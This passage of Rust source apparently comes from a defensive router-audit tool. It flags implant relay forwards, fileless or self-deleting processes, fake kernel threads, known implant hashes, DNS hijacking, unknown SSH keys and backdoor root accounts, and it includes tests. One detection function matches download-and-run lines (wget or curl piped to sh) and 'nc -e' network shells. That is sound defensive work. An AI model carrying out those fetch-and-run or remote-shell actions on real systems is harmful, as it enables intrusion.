            match_port: get("src_dport").map(str::to_string),
            to_addr,
            to_port,
            lines,
        });
    }
    v
}

/// Is `ip` outside every private, local and special-purpose range, so on
/// the Internet (documentation ranges count as outside: they stand for
/// public addresses in examples and tests)?
pub fn is_outside(ip: IpAddr) -> bool {
    match ip {
        IpAddr::V4(a) => {
            let o = a.octets();
            !(a.is_private()
                || a.is_loopback()
                || a.is_link_local()
                || a.is_unspecified()
                || a.is_broadcast()
                || a.is_multicast()
                || (o[0] == 100 && (64..128).contains(&o[1])))
        }
        IpAddr::V6(a) => {
            let s = a.segments();
            !(a.is_loopback()
                || a.is_unspecified()
                || a.is_multicast()
                || (s[0] & 0xfe00) == 0xfc00
                || (s[0] & 0xffc0) == 0xfe80)
        }
    }
}

/// Port forwards and NAT redirects. A forward to a relay implant's port
/// (KV-botnet and Quad7 routers forward or listen on them) is critical;
/// one that sends traffic arriving at the router on to an outside host
/// makes the router a relay (high); any other forward to an internal host
/// or to the router's own port is a change to check (medium) unless the
/// inventory's `expected_forwards` names its destination. The same
/// forward seen by iptables, nftables (iptables-nft shows its rules in
/// both) and uci is one finding, keyed by its destination.
/// Where forwards were read: the command, its output, the forwards parsed
/// from it (whose line numbers point into that output).
pub(crate) struct ForwardSource<'t> {
    command: &'static str,
    text: &'t str,
    forwards: Vec<Forward>,
}

fn check_forwards(r: &mut Raise<'_>, sources: &[ForwardSource<'_>]) {
    let mut by_dest: BTreeMap<(String, String), Vec<(&Forward, usize)>> = BTreeMap::new();
    for (si, s) in sources.iter().enumerate() {
        for f in &s.forwards {
            by_dest
                .entry((f.kind.to_string(), f.destination()))
                .or_default()
                .push((f, si));
        }
    }
    for ((kind, dest), fs) in by_dest {
        let f = fs[0].0;
        let implant = f
            .to_port
            .and_then(|p| IMPLANT_PORTS.iter().find(|(ip, _)| *ip == p));
        let outside = f.to_addr.filter(|a| is_outside(*a));
        let (sev, score, why) = if let Some((p, who)) = implant {
            (
                Severity::Critical,
                90,
                format!("it sends traffic to port {p}, a relay implant's port: {who}"),
            )
        } else if let Some(a) = outside {
            (
                Severity::High,
                80,
                format!(
                    "it sends traffic that reaches the router on to {a}, a host outside the organisation's networks: the router works as a relay"
                ),
            )
        } else if r.ctx.router.expected_forwards.contains(&dest) {
            continue;
        } else {
            (
                Severity::Medium,
                45,
                format!(
                    "not in the inventory's expected_forwards; if it was set up on purpose, add {dest:?} there"
                ),
            )
        };
        let what = match kind.as_str() {
            "dnat" => format!("port forward (DNAT) to {dest}"),
            _ => format!("NAT redirect to the router's own port {dest}"),
        };
        let matched = f
            .match_port
            .as_deref()
            .map(|p| {
                format!(
                    " of {} port {p}",
                    f.proto.as_deref().unwrap_or("any protocol")
                )
            })
            .unwrap_or_default();
        let mut seen_in = BTreeSet::new();
        let mut by_source: BTreeMap<usize, Vec<(usize, &str)>> = BTreeMap::new();
        for (g, si) in &fs {
            seen_in.insert(g.source);
            let text = sources[*si].text;
            for n in &g.lines {
                by_source
                    .entry(*si)
                    .or_default()
                    .push((*n, text.lines().nth(*n).unwrap_or("")));
            }
        }
        let groups: Vec<(&str, Vec<(usize, &str)>)> = by_source
            .into_iter()
            .map(|(si, lines)| (sources[si].command, lines))
            .collect();
        let sources = seen_in;
        r.add_from(
            "port_forward",
            &format!("{kind} {dest}"),
            sev,
            score,
            format!(
                "{what}{matched} ({}): {why}",
                sources.iter().copied().collect::<Vec<_>>().join(", ")
            ),
            &groups,
            serde_json::json!({
                "kind": kind, "destination": dest, "to_address": f.to_addr, "to_port": f.to_port,
                "protocol": f.proto, "match_port": f.match_port, "seen_in": sources,
            }),
        );
    }
}

const WRITABLE: [&str; 5] = ["/tmp/", "/var/run/", "/run/", "/dev/shm/", "/var/tmp/"];

fn check_processes(r: &mut Raise<'_>, t: &str) -> HashMap<String, String> {
    let mut exe_of_pid = HashMap::new();
    let mut seen = BTreeSet::new();
    for (n, line) in t.lines().enumerate() {
        let mut f = line.splitn(4, '\t');
        let (Some(pid), Some(exe), comm, cmdline) = (
            f.next(),
            f.next(),
            f.next().unwrap_or(""),
            f.next().unwrap_or(""),
        ) else {
            continue;
        };
        if pid.parse::<u32>().is_err() {
            continue;
        }
        exe_of_pid.insert(pid.to_string(), exe.to_string());
        let raw = [(n, line)];
        let cmd = cmdline.trim();
        if exe.is_empty() {
            continue; // a kernel thread, or a process that ended meanwhile
        }
        let deleted = exe.ends_with(" (deleted)");
        let path = exe.trim_end_matches(" (deleted)");
        if let Some(w) = WRITABLE.iter().find(|w| path.starts_with(*w))
            && seen.insert(("writable", path.to_string()))
        {
            r.add(
                "process_writable_path",
                path,
                Severity::High,
                80,
                format!("process {pid} ({comm}) runs {path}, from {w}, a writable path where implants that live only in memory sit"),
                profiles::PROCESSES.command,
                &raw,
                serde_json::json!({"pid": pid, "exe": exe, "comm": comm}),
            );
        }
        if deleted && seen.insert(("deleted", path.to_string())) {
            r.add(
                "process_deleted_exe",
                path,
                Severity::High,
                80,
                format!("process {pid} ({comm}) runs {path}, which was deleted after it started: implants delete themselves to hide"),
                profiles::PROCESSES.command,
                &raw,
                serde_json::json!({"pid": pid, "exe": exe, "comm": comm}),
            );
        }
        let fake_kthread = (cmd.starts_with('[') && cmd.ends_with(']'))
            || ["kworker", "ksoftirqd", "kthreadd", "migration/", "rcu_"]
                .iter()
                .any(|k| comm.starts_with(k));
        if fake_kthread && seen.insert(("kthread", path.to_string())) {
            r.add(
                "process_fake_kernel_thread",
                path,
                Severity::High,
                85,
                format!("process {pid} calls itself {:?} like a kernel thread, but runs the program {path}: kernel threads have no program", if cmd.is_empty() { comm } else { cmd }),
                profiles::PROCESSES.command,
                &raw,
                serde_json::json!({"pid": pid, "exe": exe, "comm": comm, "cmdline": cmd}),
            );
        }
    }
    exe_of_pid
}

fn check_hashes(r: &mut Raise<'_>, t: &str, exe_of_pid: &HashMap<String, String>) {
    let mut seen = BTreeSet::new();
    for (n, line) in t.lines().enumerate() {
        let Some((hash, path)) = line.split_once(char::is_whitespace) else {
            continue;
        };
        let hash = hash.to_ascii_lowercase();
        if hash.len() != 64 || !hash.bytes().all(|b| b.is_ascii_hexdigit()) {
            continue;
        }
        let path = path.trim_start_matches([' ', '*']);
        let Some(feed) = r.ctx.hash_indicators.get(&hash) else {
            continue;
        };
        // `/proc/N/exe` names a running program: say which.
        let shown = match path
            .strip_prefix("/proc/")
            .and_then(|p| p.strip_suffix("/exe"))
            .and_then(|pid| exe_of_pid.get(pid))
        {
            Some(exe) => format!("{exe} (running as {path})"),
            None => path.to_string(),
        };
        if !seen.insert(hash.clone()) {
            continue;
        }
        let feed = feed.clone();
        r.add(
            "hash_indicator",
            &hash,
            Severity::Critical,
            95,
            format!(
                "{shown} has SHA-256 {hash}, listed by feed {feed:?}: a known implant on the router"
            ),
            profiles::HASHES.command,
            &[(n, line)],
            serde_json::json!({"sha256": hash, "path": path, "feed": feed}),
        );
    }
}

/// Does a persistence line run something suspicious?
pub fn suspicious_persistence(content: &str) -> Option<&'static str> {
    let c = content.trim();
    if c.is_empty() || c.starts_with('#') {
        return None;
    }
    if WRITABLE.iter().any(|w| c.contains(w)) {
        return Some("it runs something from a writable path");
    }
    if c.split(|ch: char| ch.is_whitespace() || ch == ';' || ch == '"' || ch == '\'')
        .any(|tok| {
            tok.starts_with('/')
                && tok
                    .split('/')
                    .any(|seg| seg.starts_with('.') && seg.len() > 1 && seg != "..")
        })
    {
        return Some("it runs something from a hidden path");
    }
    let fetch = ["wget ", "curl ", "tftp ", "ftpget "]
        .iter()
        .any(|f| c.contains(f));
    if fetch
        && (c.contains("| sh") || c.contains("|sh") || c.contains("chmod") || c.contains("| ash"))
    {
        return Some("it downloads and runs a program");
    }
    if c.contains("nc ") && c.contains(" -e ") {
        return Some("it opens a shell over the network");
    }
    None
}

fn check_persistence(r: &mut Raise<'_>, t: &str) {
    for (n, line) in t.lines().enumerate() {
        let Some((file, content)) = line.split_once(':') else {
            continue;
        };
        let Some(why) = suspicious_persistence(content) else {
            continue;
        };
        let kind = if file.contains("cron") {
            "crontab"
        } else if file.ends_with("rc.local") {
            "rc.local"
        } else if file.contains("hotplug") {
            "hotplug script"
        } else {
            "init script"
        };
        r.add(
            "persistence",
            &format!("{file}:{}", content.trim()),
            Severity::High,
            85,
            format!(
                "{kind} {file} survives a reboot and {why}: {:?}",
                content.trim()
            ),
            profiles::PERSISTENCE.command,
            &[(n, line)],
            serde_json::json!({"file": file, "entry": content.trim()}),
        );
    }
}

/// A DNS server the router names: address, line number, line, where
/// (file, `uci`, `config.boot`…), the command that read it.
type DnsServer<'t> = (IpAddr, usize, &'t str, &'t str, &'static str);

fn check_dns<'t>(r: &mut Raise<'_>, t: &'t str, uci: &'t str, mut servers: Vec<DnsServer<'t>>) {
    let expected = &r.ctx.router.expected_dns;
    if expected.is_empty() {
        return;
    }
    for (n, line) in t.lines().enumerate() {
        let Some((file, content)) = line.split_once(':') else {
            continue;
        };
        let mut w = content.split_whitespace();
        if w.next() == Some("nameserver")
            && let Some(ip) = w.next().and_then(|s| s.parse::<IpAddr>().ok())
        {
            servers.push((ip, n, line, file, profiles::DNS.command));
        }
    }
    for (n, line) in uci.lines().enumerate() {
        // dhcp.@dnsmasq[0].server='1.2.3.4' or network.wan.dns='1.2.3.4 5.6.7.8'
        let Some((k, v)) = line.split_once('=') else {
            continue;
        };
        if !(k.ends_with(".server") || k.ends_with(".dns")) {
            continue;
        }
        for tok in v
            .trim_matches(['\'', '"'])
            .split(|c: char| c.is_whitespace() || c == '\'')
        {
            if let Ok(ip) = tok.parse::<IpAddr>() {
                servers.push((ip, n, line, "uci", profiles::UCI_DNS.command));
            }
        }
    }
    let mut seen = BTreeSet::new();
    for (ip, n, line, file, command) in servers {
        // A local resolver (dnsmasq) forwards to the configured upstreams,
        // which the other files and uci name.
        if ip.is_loopback() || expected.contains(&ip) || !seen.insert(ip) {
            continue;
        }
        r.add(
            "dns",
            &ip.to_string(),
            Severity::High,
            85,
            format!(
                "DNS server {ip} ({file}) is not one of the expected {}: a hijacked router sends its users to the attacker's resolver",
                expected.iter().map(|e| e.to_string()).collect::<Vec<_>>().join(", ")
            ),
            command,
            &[(n, line)],
            serde_json::json!({"server": ip, "expected": expected}),
        );
    }
}

/// RouterOS uptime and firmware (from `/system resource print`), and the
/// persistence of RouterOS (scheduler, scripts), EdgeOS/VyOS (the task
/// scheduler) and DD-WRT (the startup, firewall and custom scripts in
/// nvram).
fn check_vendor(
    r: &mut Raise<'_>,
    ros_resource: Option<&str>,
    ros_scheduler: Option<&str>,
    ros_script: Option<&str>,
    (config_boot, leaves): (&str, &[vendor::ConfigLeaf]),
    nvram_vars: &BTreeMap<String, Vec<(usize, &str)>>,
) {
    if let Some(t) = ros_resource {
        let f = vendor::routeros_fields(t);
        let line = |n: usize| (n, t.lines().nth(n).unwrap_or(""));
        if let Some((v, n)) = f.get("uptime")
            && let Some(up) = vendor::routeros_duration(v)
        {
            check_uptime_secs(r, up, profiles::ROS_RESOURCE.command, line(*n));
        }
        if let Some((v, n)) = f.get("version") {
            let board = f.get("board-name");
            let facts = FirmwareFacts {
                os: Some("routeros".into()),
                version: v.split_whitespace().next().map(str::to_string),
                model: board.map(|(b, _)| b.clone()).unwrap_or_default(),
                kernel: None,
            };
            let mut lines = vec![line(*n)];
            if let Some((_, bn)) = board {
                lines.push(line(*bn));
            }
            check_version_facts(r, &facts, profiles::ROS_RESOURCE.command, &lines);
        }
    }
    for (text, probe, what, field) in [
        (
            ros_scheduler,
            profiles::ROS_SCHEDULER,
            "scheduler",
            "on-event",
        ),
        (ros_script, profiles::ROS_SCRIPT, "script", "source"),
    ] {
        let Some(t) = text else { continue };
        for it in vendor::parse_routeros_detail(t) {
            let Some(code) = it.get(field) else { continue };
            let Some(why) = vendor::routeros_suspicious(code) else {
                continue;
            };
            let name = it.get("name").unwrap_or("?").to_string();
            let lines: Vec<(usize, &str)> = it
                .lines
                .iter()
                .map(|n| (*n, t.lines().nth(*n).unwrap_or("")))
                .collect();
            r.add(
                "persistence",
                &format!("routeros {what}:{name}"),
                Severity::High,
                85,
                format!(
                    "RouterOS {what} {name:?}{} survives a reboot and {why}: {code:?}",
                    if it.disabled() { " (disabled)" } else { "" }
                ),
                probe.command,
                &lines,
                serde_json::json!({"file": format!("routeros {what}"), "entry": code, "name": name}),
            );
        }
    }
    for (task, path, n) in vendor::config_boot_tasks(leaves) {
        let Some(why) = suspicious_persistence(&path) else {
            continue;
        };
        let line = config_boot.lines().nth(n).unwrap_or("");
        r.add(
            "persistence",
            &format!("task-scheduler:{task}"),
            Severity::High,
            85,
            format!(
                "task-scheduler task {task:?} in config.boot survives a reboot and {why}: {path:?}"
            ),
            profiles::CONFIG_BOOT.command,
            &[(n, line)],
            serde_json::json!({"file": "config.boot task-scheduler", "entry": path, "name": task}),
        );
    }
    for var in ["rc_startup", "rc_firewall", "rc_custom"] {
        for (n, content) in nvram_vars.get(var).cloned().unwrap_or_default() {
            let Some(why) = suspicious_persistence(content) else {
                continue;
            };
            r.add(
                "persistence",
                &format!("nvram {var}:{}", content.trim()),
                Severity::High,
                85,
                format!(
                    "DD-WRT's {var} script (nvram) runs at every boot and {why}: {:?}",
                    content.trim()
                ),
                profiles::NVRAM.command,
                &[(n, content)],
                serde_json::json!({"file": format!("nvram {var}"), "entry": content.trim()}),
            );
        }
    }
}

/// The files installed packages own, from opkg's file lists or apk's
/// database (a device has one or the other), and which manager said so.
#[derive(Default)]
struct PackageFiles {
    paths: BTreeSet<String>,
    sources: Vec<&'static str>,
}

impl PackageFiles {
    /// opkg `.list` lines: a path, or a path, a tab and a symlink's target.
    fn add_opkg_lists(&mut self, lists: &str) {
        let before = self.paths.len();
        self.paths.extend(
            lists
                .lines()
                .map(|l| l.split('\t').next().unwrap_or("").trim())
                .filter(|l| l.starts_with('/'))
                .map(str::to_string),
        );
        if self.paths.len() > before {
            self.sources.push("opkg's file lists");
        }
    }

    fn add_apk(&mut self, apk: &ApkInstalled) {
        let before = self.paths.len();
        self.paths.extend(apk.owner.keys().cloned());
        if self.paths.len() > before {
            self.sources.push("apk's installed database");
        }
    }

    fn owns(&self, path: &str) -> bool {
        self.paths.contains(path)
    }
}

/// apk's database of installed packages (`/lib/apk/db/installed`), read
/// for who owns each file: blocks of `X:value` lines, one block per
/// package, `P:` its name, `F:` a folder (relative to `/`) and the `R:`
/// lines after it the files in that folder. Other fields are skipped.
pub struct ApkInstalled {
    /// Absolute path → package name.
    pub owner: std::collections::BTreeMap<String, String>,
}

impl ApkInstalled {
    pub fn parse(text: &str) -> ApkInstalled {
        let mut owner = std::collections::BTreeMap::new();
        let (mut package, mut folder) = (String::new(), None::<String>);
        for line in text.lines() {
            if line.trim().is_empty() {
                // A blank line ends a package's block.
                package.clear();
                folder = None;
                continue;
            }
            let Some((field, value)) = line.split_once(':') else {
                continue;
            };
            match field {
                "P" => {
                    package = value.to_string();
                    folder = None;
                }
                "F" => folder = Some(value.trim_matches('/').to_string()),
                "R" if !value.is_empty() && !value.contains('/') => {
                    let path = match folder.as_deref() {
                        Some("") | None => format!("/{value}"),
                        Some(f) => format!("/{f}/{value}"),
                    };
                    owner.insert(path, package.clone());
                }
                _ => {}
            }
        }
        ApkInstalled { owner }
    }
}

/// Programs in system folders that no installed package owns.
///
/// Why: OpenWrt installs every program through a package (the firmware
/// image's own programs too), and its package manager records each
/// package's files: opkg in `/usr/lib/opkg/info/<package>.list` (up to
/// OpenWrt 24.10), apk in `/lib/apk/db/installed` (from 25.12). A program
/// in `/usr/sbin` that no package names was put there some other way: an
/// implant hiding among system programs, or a hand-copied tool worth
/// knowing about. The SHA-256 goes in the finding for a look-up (opkg
/// keeps no checksum of each file; apk does, and [`check_apk_audit`]
/// reads its verdict). A device whose lists are all missing says nothing
/// about any one file, and is not judged.
fn check_unowned_executables(r: &mut Raise<'_>, owned: &PackageFiles, exes: &str) {
    if owned.paths.is_empty() {
        return;
    }
    let said_by = owned.sources.join(" and ");
    for (n, line) in exes.lines().enumerate() {
        let Some((hash, path)) = line.split_once(char::is_whitespace) else {
            continue;
        };
        let path = path.trim_start_matches([' ', '*']);
        if hash.len() != 64
            || !hash.bytes().all(|b| b.is_ascii_hexdigit())
            || !path.starts_with('/')
        {
            continue;
        }
        // A package may list `/usr/sbin/x` while the file is reached as
        // `/sbin/x` through a merged-/usr symlink, and the reverse.
        let alt = path
            .strip_prefix("/usr")
            .map(str::to_string)
            .unwrap_or_else(|| format!("/usr{path}"));
        if owned.owns(path) || owned.owns(&alt) {
            continue;
        }
        let hash = hash.to_ascii_lowercase();
        r.add(
            "unowned_executable",
            path,
            Severity::High,
            70,
            format!(
                "{path} is a program in a system folder that no installed package owns ({said_by} do not name it): on OpenWrt every program comes from a package, so this one was put there another way; SHA-256 {hash}"
            ),
            profiles::SYSTEM_EXECUTABLES.command,
            &[(n, line)],
            serde_json::json!({"path": path, "sha256": hash, "owned_files": owned.paths.len()}),
        );
    }
}

/// What `apk audit --system` says about the files packages installed
/// (apk-audit(8): a letter, a space, the path).
///
/// Why: apk keeps a checksum of every file it installs, so unlike opkg it
/// can tell a package's program that was overwritten: the way an implant
/// takes the place of `dropbear` or `busybox` and survives a look at the
/// program folders. `U` (contents modified) is the finding that matters;
/// `X` (deleted) and `M` (owner or mode changed) are weaker signs; an
/// `e` (could not be read) is reported so that a gap is not taken for a
/// clean result. Added files (`A`, `d`, `D`) are only listed with
/// `--full` and are the unowned-program check's business.
fn check_apk_audit(r: &mut Raise<'_>, audit: &str, apk: Option<&ApkInstalled>) {
    for (n, line) in audit.lines().enumerate() {
        let Some((code, path)) = line.split_once(' ') else {
            continue;
        };
        let path = path.trim();
        if !path.starts_with('/') && !path.contains('/') {
            continue;
        }
        let path = if path.starts_with('/') {
            path.to_string()
        } else {
            format!("/{path}")
        };
        let package = apk
            .and_then(|a| a.owner.get(&path))
            .map(String::as_str)
            .unwrap_or("an installed package");
        let (check, severity, score, what) = match code {
            "U" => (
                "package_file_modified",
                Severity::High,
                80,
                format!(
                    "{path} differs from the file {package} installed (apk audit: contents modified): a package's program replaced in place is how an implant hides under a trusted name"
                ),
            ),
            "X" => (
                "package_file_deleted",
                Severity::Medium,
                45,
                format!("{path}, installed by {package}, is gone (apk audit: file deleted)"),
            ),
            "M" => (
                "package_file_metadata",
                Severity::Medium,
                40,
                format!(
                    "{path}, installed by {package}, has another owner or mode than apk installed (apk audit: metadata changed)"
                ),
            ),
            "x" => (
                "package_file_metadata",
                Severity::Low,
                25,
                format!(
                    "{path}, installed by {package}, has changed extended attributes (apk audit)"
                ),
            ),
            "e" => (
                "package_file_unreadable",
                Severity::Low,
                20,
                format!(
                    "apk audit could not check {path} (an error reading it): that file is not covered"
                ),
            ),
            _ => continue,
        };
        r.add(
            check,
            &path,
            severity,
            score,
            what,
            profiles::APK_AUDIT.command,
            &[(n, line)],
            serde_json::json!({"path": path, "apk_audit": code, "package": apk.and_then(|a| a.owner.get(&path))}),
        );
    }
}

/// "type base64" of an `authorized_keys` line (options and comment
/// dropped), or `None` for a line that holds no key.
pub fn key_material(line: &str) -> Option<String> {
    let toks: Vec<&str> = line.split_whitespace().collect();
    let i = toks
        .iter()
        .position(|t| t.starts_with("ssh-") || t.starts_with("ecdsa-") || t.starts_with("sk-"))?;
    let b64 = toks.get(i + 1)?;
    Some(format!("{} {}", toks[i], b64))
}

fn check_authorized_keys(r: &mut Raise<'_>, t: &str) {
    let known: BTreeSet<String> = r
        .ctx
        .router
        .authorized_keys
        .iter()
        .chain(r.ctx.own_keys.iter())
        .filter_map(|k| key_material(k))
        .collect();
    for (n, line) in t.lines().enumerate() {
        let Some((file, content)) = line.split_once(':') else {
            continue;
        };
        if content.trim().is_empty() || content.trim_start().starts_with('#') {
            continue;
        }
        let Some(k) = key_material(content) else {
            continue;
        };
        if known.contains(&k) {
            continue;
        }
        let comment = content.split_whitespace().last().unwrap_or("");
        r.add(
            "authorized_key",
            &k,
            Severity::High,
            80,
            format!("{file} lets an unknown key log in ({comment}): not in the inventory's authorized_keys"),
            profiles::AUTHORIZED_KEYS.command,
            &[(n, line)],
            serde_json::json!({"file": file, "key": k}),
        );
    }
}

fn check_accounts(r: &mut Raise<'_>, t: &str) {
    for (n, line) in t.lines().enumerate() {
        let f: Vec<&str> = line.split(':').collect();
        if f.len() < 7 {
            continue;
        }
        if f[2] == "0" && f[0] != "root" {
            r.add(
                "account",
                f[0],
                Severity::High,
                80,
                format!(
                    "account {:?} has user id 0, the powers of root: a classic backdoor account",
                    f[0]
                ),
                profiles::ACCOUNTS.command,
                &[(n, line)],
                serde_json::json!({"account": f[0], "shell": f[6]}),
            );
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::inventory::Inventory;
    use std::path::Path;

    fn router(extra: &str) -> Router {
        let t = format!(
            "[[router]]\nname='r1'\nhost='192.0.2.10'\nuser='root'\nprofile='busybox'\nexpected_dns=['192.0.2.53']\n{extra}"
        );
        Inventory::parse(&t, Path::new("t.toml"))
            .unwrap()
            .routers
            .remove(0)
    }

    fn run(r: &Router, probe: Probe, text: &str, hashes: &HashMap<String, String>) -> Vec<Finding> {
        let ctx = CheckContext {
            router: r,
            hash_indicators: hashes,
            ip_indicators: &[(
                IndicatorValue::Cidr("203.0.113.0/24".parse().unwrap()),
                "c2-feed".to_string(),
            )],
            vulnerable: &[],
            own_keys: &[],
            now: Timestamp::UNIX_EPOCH,
        };
        let mut o = Outputs::new();
        o.insert(
            probe.id,
            SshOutput {
                command: probe.command.into(),
                status: Some(0),
                stdout: text.into(),
                stderr: String::new(),
            },
        );
        run_all(&ctx, &o, &BTreeMap::from([(7777, "xlogin:".to_string())]))
    }
    use crate::profiles::Probe;

    #[test]
    fn proc_net_tcp_listeners() {
        let t = "  sl  local_address rem_address   st tx_queue rx_queue tr tm->when retrnsmt   uid  timeout inode\n   0: 00000000:1E61 00000000:0000 0A 00000000:00000000 00:00000000 00000000     0        0 1 1 0000000000000000 100 0 0 10 0\n   1: 0100007F:0035 00000000:0000 0A 0 0 0 0 0\n   2: 0200A8C0:0016 0100A8C0:D2F4 01 0 0 0 0 0\n  sl  local_address                         remote_address                        st\n   0: 00000000000000000000000000000000:2BF8 00000000000000000000000000000000:0000 0A 0\n";
        let l = listeners(t);
        assert_eq!(
            l.iter()
                .map(|l| (l.addr.to_string(), l.port))
                .collect::<Vec<_>>(),
            [
                ("0.0.0.0".to_string(), 7777),
                ("127.0.0.1".to_string(), 53),
                ("::".to_string(), 11256)
            ]
        );
        let r = router("");
        let f = run(&r, profiles::LISTENING, t, &HashMap::new());
        assert_eq!(f.len(), 1);
        assert_eq!(f[0].severity, Some(Severity::Critical));
        assert_eq!(check_of(&f[0]), "listening_port");
        let wan = router("wan_address='192.0.2.10'");
        let t2 = format!("{t}   3: 00000000:0016 00000000:0000 0A 0\n");
        let f = run(&wan, profiles::LISTENING, &t2, &HashMap::new());
        assert_eq!(
            f.iter().filter(|f| check_of(f) == "wan_management").count(),
            1
        );
    }

    #[test]
    fn connections_to_feed_addresses() {
        // 10.0.0.2:40000 -> 203.0.113.9:443 established, and one to 198.51.100.1.
        let t = "  sl  local_address rem_address   st\n   0: 0200000A:9C40 097100CB:01BB 01 0\n   1: 0200000A:9C41 016433C6:01BB 01 0\n   2: 0200000A:9C42 097100CB:0050 01 0\n";
        let f = run(&router(""), profiles::LISTENING, t, &HashMap::new());
        assert_eq!(f.len(), 1, "{f:?}");
        assert_eq!(check_of(&f[0]), "connection");
        assert!(
            f[0].reasons[0].contains("203.0.113.9:443"),
            "{}",
            f[0].reasons[0]
        );
        let range = IndicatorValue::Range {
            first: "192.0.2.1".parse().unwrap(),
            last: "192.0.2.9".parse().unwrap(),
        };
        assert!(indicator_covers(&range, "192.0.2.5".parse().unwrap()));
        assert!(!indicator_covers(&range, "192.0.2.10".parse().unwrap()));
        assert!(!indicator_covers(&range, "::1".parse().unwrap()));
    }

    /// Real lines, captured from a Linux 6.18 network namespace (`cat
    /// /proc/net/nf_conntrack` and conntrack-tools 1.4.7 `conntrack -L`):
    /// a TCP connection to 127.0.0.1:8080 that an OUTPUT DNAT rule sent to
    /// 203.0.113.7:11288 (only the reply direction shows it), and an
    /// unanswered UDP datagram. The IPv6 line is written in the kernel's
    /// format for IPv6 (`%pI6`: eight groups, not compressed).
    const CONNTRACK_PROC: &str = "ipv4     2 udp      17 30 src=203.0.113.7 dst=203.0.113.7 sport=60771 dport=53 [UNREPLIED] src=203.0.113.7 dst=203.0.113.7 sport=53 dport=60771 mark=0 zone=0 use=2
ipv4     2 tcp      6 431999 ESTABLISHED src=127.0.0.1 dst=127.0.0.1 sport=35086 dport=8080 src=203.0.113.7 dst=127.0.0.1 sport=11288 dport=35086 [ASSURED] mark=0 zone=0 use=2
ipv4     2 tcp      6 431999 ESTABLISHED src=127.0.0.1 dst=127.0.0.1 sport=53182 dport=5001 src=127.0.0.1 dst=127.0.0.1 sport=5001 dport=53182 [ASSURED] mark=0 zone=0 use=2
ipv6     10 tcp      6 117 TIME_WAIT src=2001:0db8:0000:0000:0000:0000:0000:0002 dst=2001:0db8:00ff:0000:0000:0000:0000:0009 sport=40102 dport=443 src=2001:0db8:00ff:0000:0000:0000:0000:0009 dst=2001:0db8:0000:0000:0000:0000:0000:0002 sport=443 dport=40102 [ASSURED] mark=0 zone=0 use=2
ipv4     2 icmp     1 29 src=10.0.0.2 dst=10.0.0.1 type=8 code=0 id=7 src=10.0.0.1 dst=10.0.0.2 type=0 code=0 id=7 mark=0 zone=0 use=2
";
    const CONNTRACK_TOOL: &str = "udp      17 29 src=203.0.113.7 dst=203.0.113.7 sport=60771 dport=53 [UNREPLIED] src=203.0.113.7 dst=203.0.113.7 sport=53 dport=60771 mark=0 use=1
tcp      6 431999 ESTABLISHED src=127.0.0.1 dst=127.0.0.1 sport=35086 dport=8080 src=203.0.113.7 dst=127.0.0.1 sport=11288 dport=35086 [ASSURED] mark=0 use=1
conntrack v1.4.7 (conntrack-tools): 2 flow entries have been shown.
";

    #[test]
    fn conntrack_both_formats() {
        let p = parse_conntrack(CONNTRACK_PROC);
        assert_eq!(p.len(), 5, "{p:?}");
        assert_eq!(p[0].proto, "udp");
        assert_eq!(p[0].state, None);
        assert!(p[0].unreplied);
        assert_eq!(p[0].dport, Some(53));
        assert_eq!(p[1].state.as_deref(), Some("ESTABLISHED"));
        assert_eq!(p[1].dst, "127.0.0.1".parse::<IpAddr>().unwrap());
        assert_eq!(p[1].dport, Some(8080), "the original direction's port");
        assert_eq!(p[1].reply_src, Some("203.0.113.7".parse().unwrap()));
        assert_eq!(p[3].state.as_deref(), Some("TIME_WAIT"));
        assert_eq!(p[3].dst, "2001:db8:ff::9".parse::<IpAddr>().unwrap());
        assert_eq!((p[4].proto.as_str(), p[4].sport), ("icmp", None));
        let t = parse_conntrack(CONNTRACK_TOOL);
        assert_eq!(t.len(), 2, "the summary line is not a flow");
        for (a, b) in t.iter().zip(&p) {
            assert_eq!(
                (a.src, a.dst, a.sport, a.dport, a.reply_src),
                (b.src, b.dst, b.sport, b.dport, b.reply_src)
            );
        }
    }

    fn run_many(
        r: &Router,
        outs: &[(Probe, &str)],
        ips: &[(IndicatorValue, String)],
    ) -> Vec<Finding> {
        run_audit(r, outs, ips, &[]).0
    }

    /// `run_all` on `r` with these IP indicators and vulnerable-firmware
    /// entries, no hash indicators, keys or banners, and each probe of
    /// `outs` answering its text with exit status 0. The outputs are
    /// returned with the findings, for the tests that read them again.
    fn run_audit(
        r: &Router,
        outs: &[(Probe, &str)],
        ips: &[(IndicatorValue, String)],
        vulnerable: &[Entry],
    ) -> (Vec<Finding>, Outputs) {
        let hashes = HashMap::new();
        let ctx = CheckContext {
            router: r,
            hash_indicators: &hashes,
            ip_indicators: ips,
            vulnerable,
            own_keys: &[],
            now: Timestamp::UNIX_EPOCH,
        };
        let mut o = Outputs::new();
        for (probe, text) in outs {
            o.insert(
                probe.id,
                SshOutput {
                    command: probe.command.into(),
                    status: Some(0),
                    stdout: text.to_string(),
                    stderr: String::new(),
                },
            );
        }
        (run_all(&ctx, &o, &BTreeMap::new()), o)
    }

    #[test]
    fn connections_from_sockets_and_conntrack_are_one_finding_per_remote() {
        // /proc/net/udp and /proc/net/tcp from the same capture: a UDP
        // socket connected to 203.0.113.7:53, and the DNAT'd TCP pair.
        let udp = "   sl  local_address rem_address   st tx_queue rx_queue tr tm->when retrnsmt   uid  timeout inode ref pointer drops            \n 3751: 077100CB:ED63 077100CB:0035 01 00000000:00000000 00:00000000 00000000     0        0 25556 2 000000001347b5ef 0         \n 6238: 00000000:14E9 00000000:0000 07 00000000:00000000 00:00000000 00000000     0        0 22974 2 0000000077cca52f 0         \n";
        let tcp = "  sl  local_address rem_address   st tx_queue rx_queue tr tm->when retrnsmt   uid  timeout inode\n   0: 077100CB:2C18 00000000:0000 0A 00000000:00000000 00:00000000 00000000     0        0 25550 1 0000000058e80066 100 0 0 10 0\n   2: 0100007F:890E 0100007F:1F90 01 00000000:00000000 00:00000000 00000000     0        0 25551 2 00000000b5531897 20 0 0 10 -1\n";
        let feeds = [
            (
                IndicatorValue::Ip("203.0.113.7".parse().unwrap()),
                "c2".to_string(),
            ),
            (
                IndicatorValue::Cidr("2001:db8:ff::/48".parse().unwrap()),
                "v6".to_string(),
            ),
        ];
        let r = router("");
        let f = run_many(
            &r,
            &[
                (profiles::LISTENING, tcp),
                (profiles::UDP, udp),
                (profiles::CONNTRACK, CONNTRACK_PROC),
            ],
            &feeds,
        );
        let mut got: Vec<_> = f
            .iter()
            .map(|f| {
                (
                    check_of(f).to_string(),
                    f.details.as_ref().unwrap()["key"]
                        .as_str()
                        .unwrap()
                        .to_string(),
                )
            })
